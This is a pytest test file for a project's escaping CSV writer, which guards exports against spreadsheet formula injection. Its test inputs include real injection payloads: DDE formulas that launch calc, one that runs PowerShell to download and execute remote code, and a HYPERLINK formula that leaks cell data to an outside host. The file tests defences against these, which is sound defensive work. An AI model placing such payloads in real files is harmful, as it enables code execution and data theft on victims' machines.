"""The escaping CSV writer every export uses (core.csv_export).

The escaping cases are defusedcsv's own test cases (pretix's library, Apache-2.0), kept as
ours because we keep our own writer; the tab and line-break cases are what it leaves out.
"""

import ast
import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest

from core.csv_export import csv_cell, csv_lines, csv_writer

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        # defusedcsv: sample dangerous payloads.
        ("=1+1", "'=1+1"),
        ("-1+1", "'-1+1"),
        ("+1+1", "'+1+1"),
        ("@A3", "'@A3"),
        ("%1", "'%1"),
        ("|1+1", "'\\|1+1"),
        ("=1|2", "'=1\\|2"),
        ("=cmd|' /C calc'!A0", "'=cmd\\|' /C calc'!A0"),
        ("=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0", "'=cmd\\|' /C powershell IEX(wget 0r.pe/p)'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd\\|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd\\|' /C calc'!A0"),
        (
            '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
            '\'=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
        ),
        # Ours: what OWASP lists beyond defusedcsv, and the full-width signs some spreadsheets accept.
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\tanything", "'\tanything"),
        (" =1+1", "' =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
    ],
)
def test_dangerous_cells_are_written_as_text(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        # defusedcsv: sample safe payloads, left as they are.
        "1+2",
        "1",
        "Foo",
        "1.3",
        "1,2",
        "-1.3",
        "-1,2",
        "Foo Bar",
        "1-2",
        "1=3",
        "foo@example.org",
        "19.00 %",
        "Test | Foo",
        "",
        # Ours.
        "Speeding on the A2",
        "Don't know",
    ],
)
def test_safe_text_is_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [1, 2, -5, 2.5, Decimal("-1.25"), datetime.date(2026, 3, 1)])
def test_numbers_and_dates_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_none_is_empty_and_booleans_are_words():
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True"


def test_writer_quotes_every_cell_so_no_separator_splits_one():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["Spam", "x;=1+1", 3, None])
    writer.writerows([["A", "=3+4"]])

    assert out.getvalue() == '"Spam","x;=1+1","3",""\r\n"A","\'=3+4"\r\n'
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["Spam", "x;=1+1", "3", ""], ["A", "'=3+4"]]


def test_lines_stream_one_escaped_row_each():
    assert list(csv_lines([["@A1", -2], ["ok"]])) == ['"\'@A1","-2"\r\n', '"ok"\r\n']


def test_finding_4_no_module_writes_csv_but_through_the_escaping_writer():
    """Every CSV the project writes goes through core.csv_export: no other module calls csv.writer."""
    offenders = []
    for package in ("core", "pact", "wards", "priorities", "feedback"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "core" / "csv_export.py" or "migrations" in path.parts:
                continue
            offenders += [
                f"{path.relative_to(ROOT)}:{node.lineno}"
                for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
                if isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ]
    assert offenders == []
